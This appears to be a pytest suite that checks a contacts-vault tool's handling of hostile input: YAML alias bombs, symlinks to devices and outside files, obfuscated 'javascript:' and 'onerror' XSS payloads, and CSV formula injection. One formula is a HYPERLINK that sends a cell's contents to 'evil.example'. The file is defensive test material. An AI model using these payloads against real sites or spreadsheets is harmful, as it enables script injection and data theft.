"""Hostile and broken input (issue 16), each class held as a rule:

- whatever `kith check` accepts builds and exports; whatever cannot be used is a problem
  naming file and line, and the other records still load;
- a record is a regular file inside the vault, under a size limit; anything else is a
  problem that says what it is, and nothing hangs or floods;
- a bad setting names mkdocs.yml, its line and the key.

The build and export halves of the first rule are in `test_hostile_build.py`.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import hypothesis
import pytest

from .conftest import MKDOCS_YML, kith

ADA = "---\nname: Ada Lovelace\n---\n"


def laughs(levels: int = 7) -> str:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for level in range(1, levels):
        here, before = chr(ord("a") + level), chr(ord("a") + level - 1)
        lines.append(f"{here}: &{here} [{', '.join([f'*{before}'] * 10)}]")
    return "\n".join(lines)


# (front matter after `name: X`, the line the problem is on, words of the message)
ONE_VALUE = {
    "bare equals": ("role: =", 3, "'=' alone is a special YAML value; put it in quotes"),
    "bare merge": ("role: <<", 3, "'<<' alone is YAML's merge key; put it in quotes"),
    "equals in a list": ("tags: [a, =]", 3, "'=' alone"),
    "billion laughs": (laughs(), 6, "aliases expand to more than 10,000 values"),
    "recursive alias": ("tags: &a [*a]", 3, "an alias is used inside its own anchor"),
    "500-deep list": ("tags: " + "[" * 500 + "]" * 500, 3, "nested more than 32 deep"),
    "5,000-digit integer": ("status: " + "1" * 5000, 3, "a number of 5000 characters"),
    "huge sexagesimal": ("status: " + ":".join(["59"] * 3000), 3, "too long to be a number"),
    "year 1": ("snooze_until: 0001-01-01", 3, "0001-01-01 is out of range"),
    "year 9999 with a time": ("snooze_until: 9999-12-31", 3, "9999-12-31 is out of range"),
    "a century-long cadence": ("cadence: 99999y", 3, "a period is at most 100 years"),
    "control character in a name": ('title: "a\\x01b"', 3, "control character (U+0001)"),
    "email with a line break": ('email: "a@example.org\\r\\nBcc: b@example.org"', 3,
                                "contains a line break; an address cannot"),
    "link with a line break": ('links: ["https://example.org/a\\nb"]', 3, "contains a line break"),
}


@pytest.mark.parametrize("case", ONE_VALUE.values(), ids=ONE_VALUE.keys())
def test_one_bad_value_is_one_problem_with_its_line_and_the_rest_loads(make_vault, case):
    front, line, words = case
    root = make_vault({"people/ada.md": ADA, "people/odd.md": f"---\nname: Odd\n{front}\n---\n"})
    result = kith(root, "check")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert f"people/odd.md:{line}: error:" in result.output, result.output
    assert words in result.output
    assert "read 1 person" in result.output or "read 2 people" in result.output


TOUCH_VALUES = {
    "date in year 1": ("date: 0001-01-01", 2, "out of range"),
    "date at the end of 9999": ("date: 9999-12-31 23:30", 2, "out of range"),
    "huge duration": ("duration: 99999999h", 5, "a duration is at most 7 days"),
    "huge bare duration": ("duration: " + "9" * 40, 5, "a duration is at most 7 days"),
    "url with a line break": ('url: "https://meet.example.org/x\\nBEGIN:VEVENT"', 5,
                              "contains a line break"),
}


@pytest.mark.parametrize("case", TOUCH_VALUES.values(), ids=TOUCH_VALUES.keys())
def test_bad_touch_values_are_problems(make_vault, case):
    front, line, words = case
    date = front if front.startswith("date") else "date: 2026-11-20"
    extra = "" if front.startswith("date") else f"\n{front}"
    text = f"---\n{date}\nwith: ada\nkind: meeting{extra}\n---\n"
    root = make_vault({"people/ada.md": ADA, "meetings/2026-11-20-meeting-ada.md": text})
    result = kith(root, "check")
    assert "Traceback" not in result.output
    assert f"meetings/2026-11-20-meeting-ada.md:{line}: error:" in result.output, result.output
    assert words in result.output


def test_thousands_of_tags_are_a_warning_and_the_site_keeps_the_first_hundred(make_vault):
    from kithbook.load import load_vault
    from kithbook.settings import read_settings

    tags = ", ".join(f"t{n}" for n in range(8000))
    root = make_vault({"people/ada.md": f"---\nname: Ada\ntags: [{tags}]\n---\n"})
    result = kith(root, "check")
    assert "people/ada.md:3: warning: tags: 8000 tags; the site shows the first 100" in \
        result.output
    assert len(load_vault(root, read_settings(root)).people["ada"].tags) == 100


# The file system ------------------------------------------------------------------------


def run_check(root: Path) -> subprocess.CompletedProcess[str]:
    """`kith check` in its own process, so that a hang fails the test instead of stalling it."""
    return subprocess.run([sys.executable, "-m", "kithbook", "--vault", str(root), "check"],
                          capture_output=True, text=True, timeout=60, check=False)


@pytest.fixture
def odd_files(make_vault, tmp_path):
    outside = tmp_path / "secret.md"
    outside.write_text("---\nname: Not In The Vault\n---\n", encoding="utf-8")
    root = make_vault({"people/ada.md": ADA, "people/big.md": ADA + "x" * 3000,
                       "people/new\nline.md": ADA.replace("Ada Lovelace", "Newline")},
                      mkdocs_yml=MKDOCS_YML + "      max_record_kb: 2\n")
    people = root / "people"
    os.mkfifo(people / "fifo.md")
    (people / "zero.md").symlink_to("/dev/zero")
    (people / "urandom.md").symlink_to("/dev/urandom")
    (people / "loop.md").symlink_to("loop.md")
    (people / "dangling.md").symlink_to("nowhere.md")
    (people / "outside.md").symlink_to(outside)
    (people / "inside.md").symlink_to("ada.md")
    (people / "again").symlink_to(people)
    return root


FILE_PROBLEMS = {
    "people/fifo.md": "is not a regular file but a named pipe",
    "people/zero.md": "is a link to a file outside the vault (/dev/zero)",
    "people/urandom.md": "is a link to a file outside the vault (/dev/urandom)",
    "people/loop.md": "is a symbolic link that loops",
    "people/dangling.md": "is a link to nothing",
    "people/outside.md": "is a link to a file outside the vault",
    "people/again": "is a link to a folder; it is not followed",
    "people/big.md": "is 3 KB, over the limit of 2 KB (the max_record_kb setting)",
    "people/new\\nline.md": "the file name holds a line break",
}


def test_a_record_is_a_regular_file_inside_the_vault_under_the_size_limit(odd_files):
    result = run_check(odd_files)
    assert "Traceback" not in result.stderr, result.stderr
    lines = (result.stdout + result.stderr).splitlines()
    for path, words in FILE_PROBLEMS.items():
        assert any(line.startswith(f"{path}: error: {words}") for line in lines), (path, lines)
    assert "Not In The Vault" not in result.stdout + result.stderr
    # one problem per line: the name with a line break is written as an escape
    assert all(line.startswith(("people/", "meetings/")) or " errors, " in line or
               " warnings " in line for line in lines), lines
    assert "read 2 people" in result.stderr  # ada, and inside.md (a link to a file in the vault)


def test_a_file_replaced_by_a_pipe_after_listing_is_refused_not_waited_on(tmp_path):
    from kithbook.load import read_file
    from kithbook.records import read_person

    pipe = tmp_path / "late.md"
    os.mkfifo(pipe)
    record, problems = read_file(str(pipe), "people/late.md", "late", read_person)
    assert record is None
    assert "not a regular file" in problems[0].message


# Settings -------------------------------------------------------------------------------


def test_a_bad_date_in_the_settings_names_file_line_and_key(make_vault):
    root = make_vault({"people/ada.md": ADA},
                      mkdocs_yml=MKDOCS_YML.replace("today: 2026-11-26", "today: 2026-13-45"))
    result = kith(root, "check")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert f"{root / 'mkdocs.yml'}:8: kithbook setting 'today': 2026-13-45 does not exist:" \
        " no month 13" in result.output


@pytest.mark.parametrize("value", ["0", "-3", "lots", "true"])
def test_max_record_kb_must_be_a_positive_whole_number(make_vault, value):
    root = make_vault({"people/ada.md": ADA}, mkdocs_yml=MKDOCS_YML + f"      max_record_kb: {value}\n")
    result = kith(root, "check")
    assert result.exit_code == 1
    assert "mkdocs.yml:9: kithbook setting 'max_record_kb': expected a whole number" in result.output


# Script execution -----------------------------------------------------------------------

OBFUSCATED = ["&#x6A;avascript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
              "java\tscript:alert(1)", "java\nscript:alert(1)", "JaVaScRiPt:alert(1)",
              "javascript\\:alert(1)", " javascript:alert(1)", "&amp;#106;avascript:alert(1)",
              "data:text/html,x", "\x01javascript:alert(1)"]


@pytest.mark.parametrize("url", OBFUSCATED)
def test_every_form_of_an_unsafe_url_is_cut_off_wherever_a_link_can_be(url):
    from kithbook.site.markup import UNSAFE, md_body

    forms = [f"[x]({url})", f"![x]({url})"]
    if "\n" not in url:  # a definition ends at the line's end: `java` alone is relative
        forms += [f"[r]: {url}", f"   [r]:  {url}"]
    for text in forms:
        written = md_body(text)
        assert UNSAFE in written, (text, written)
        assert "alert" not in written.split(UNSAFE)[0]


@pytest.mark.parametrize("url", ["https://example.org/a_(b)", "mailto:a@example.org",
                                 "../people/ada.md", "#section", "http://x.example/?a=1&b=2"])
def test_safe_urls_stay_links(url):
    from kithbook.site.markup import md_body

    assert md_body(f"[x]({url})") == f"[x]({url})"


def test_images_from_other_hosts_become_links_and_local_ones_stay():
    from kithbook.site.markup import md_body, safe_html

    assert md_body("![a](https://t.example/p.png)") == "[a](https://t.example/p.png)"
    assert md_body("![a](//t.example/p.png)") == "[a](//t.example/p.png)"
    assert md_body("![a][ref]") == "[a][ref]"
    assert md_body("![a](pic.png)") == "![a](pic.png)"
    page = '<p><img alt="a" src="https://t.example/p.png"><img src="pic.png"></p>'
    assert safe_html(page) == '<p><a href="https://t.example/p.png">a</a><img src="pic.png"></p>'
    assert safe_html('<img/src="//t.example/p.png">') == \
        '<a href="//t.example/p.png">//t.example/p.png</a>'


def test_the_html_of_a_generated_page_is_checked_once_more():
    from kithbook.site.markup import UNSAFE, safe_html

    page = ('<a href="&#x6A;avascript:alert(1)">x</a><a href=" java&#9;script:alert(2)">y</a>'
            "<a href='https://example.org'>z</a><form action=javascript:alert(3)>"
            '<a/href="javascript:alert(4)">w</a><A\tHREF = "JAVASCRIPT:alert(5)">v</A>')
    checked = safe_html(page)
    assert checked.count(UNSAFE) == 5
    assert "https://example.org" in checked and "alert" not in checked


@pytest.mark.parametrize("name", ["x) <img src=x onerror=alert(1)> (", "a|b", "a b", 'q"uote',
                                  "a]b", "x" * 300, "-lead"])
def test_a_file_name_that_could_break_a_link_gets_a_safe_page_name(name):
    from kithbook.names import page_name
    from kithbook.site.urls import person_path, touch_path

    made = page_name(name)
    assert re.fullmatch(r"[a-z0-9-]+", made) and len(made) <= 70
    assert page_name(name + "!") != made  # two odd names never share a page
    assert touch_path(name) == f"touches/{made}.md" and person_path(name) == f"people/{made}.md"


@pytest.mark.parametrize("name", ["ada-lovelace", "2026-11-20-coffee-ada", "josé", "山田", "a_b"])
def test_names_safe_in_a_link_keep_their_page(name):
    from kithbook.names import page_name

    assert page_name(name) == name


def test_a_touch_file_name_with_html_is_a_warning(make_vault):
    root = make_vault({"people/ada.md": ADA,
                       "meetings/x) <img src=x onerror=alert(1)> (.md":
                       "---\ndate: 2026-11-20\nwith: ada\n---\n"})
    result = kith(root, "check")
    assert "meetings/x) <img src=x onerror=alert(1)> (.md: warning: file name" in result.output
    assert "cannot be part of a link" in result.output


# Smaller --------------------------------------------------------------------------------

@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(make_vault, start):
    import csv
    import io

    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    root = make_vault({"people/ada.md": f"---\nname: Ada\ncompany: {json.dumps(formula)}\n"
                                        f"tags: [{json.dumps(start + 'cmd')}]\n---\n"})
    result = kith(root, "export", "csv")
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(result.output)))
    assert row["company"] == "'" + formula
    assert row["tags"] == "'" + start + "cmd"
    assert row["name"] == "Ada"


def test_csv_cells_starting_with_a_tab_or_cr_are_neutralized_too():
    from kithbook.formats.csvexport import as_text_cell

    assert as_text_cell("\t=1+1") == "'\t=1+1" and as_text_cell("\r=1") == "'\r=1"
    assert as_text_cell("Ada") == "Ada" and as_text_cell("a=b") == "a=b"


NOTE_CHARACTERS = "ab #<>{}()[]:/!\n\r\t~*_\\&\x1c\x85\u00a0\u2028\u3000\U0001f600"


@hypothesis.given(hypothesis.strategies.text(alphabet=NOTE_CHARACTERS, max_size=120))
@hypothesis.settings(max_examples=300, deadline=None, derandomize=True, database=None)
def test_notes_without_code_are_escaped_whole_as_line_by_line(note):
    """The quick path of `md_body` (a note with no code is escaped in one pass) makes what
    the line-by-line reading makes."""
    from kithbook.site.markup import escaped_line_by_line, escaped_outside_code

    assert escaped_outside_code(note) == escaped_line_by_line(note)


ATTRIBUTE_NAMES = ["href", "HREF", "src", "style", "title", "action", "data", "a/href"]
VALUE_PIECES = ["javascript:", "JavaScript:", "javascript&colon;", "&#x6A;avascript", "&#58;",
                "https:", "HTTPS:", " ", "<", "http:", "mailto:", "data:", "&amp;", ":", "x",
                "//x.example/p.png", "#tag:ml", "text-align: right;", "'", '"', "/"]
_value = hypothesis.strategies.lists(
    hypothesis.strategies.sampled_from(VALUE_PIECES), max_size=4).map("".join)
_attribute = hypothesis.strategies.builds(
    lambda name, space, quote, value: f"{space}{name}{space}={space}{quote}{value}{quote}",
    hypothesis.strategies.sampled_from(ATTRIBUTE_NAMES),
    hypothesis.strategies.sampled_from(["", " ", "\t"]),
    hypothesis.strategies.sampled_from(['"', "'", ""]), _value)
_tag = hypothesis.strategies.builds(
    lambda name, attributes, text: f"<{name}{''.join(' ' + a for a in attributes)}>{text}",
    hypothesis.strategies.sampled_from(["a", "img", "form", "p"]),
    hypothesis.strategies.lists(_attribute, max_size=3), _value)


@hypothesis.given(hypothesis.strategies.lists(_tag, max_size=6).map("".join))
@hypothesis.example('<a href="javascript&colon;x">')  # no `:` before entities are read
@hypothesis.example("<a href='&#x6A;avascript&#58;x'>")
@hypothesis.example("<a/href=javascript&colon;x>")
@hypothesis.example('<p style="x" title=" https:x"><a HREF = " JavaScript:x">')
@hypothesis.settings(max_examples=500, deadline=None, derandomize=True, database=None)
def test_a_page_skipped_by_the_quick_look_is_one_the_full_check_leaves_alone(page):
    """`safe_html` scans every attribute only where a value could be unsafe; whatever the
    page, the result is the full check's."""
    from kithbook.site.markup import safe_html, safe_html_in_full

    assert safe_html(page) == safe_html_in_full(page)
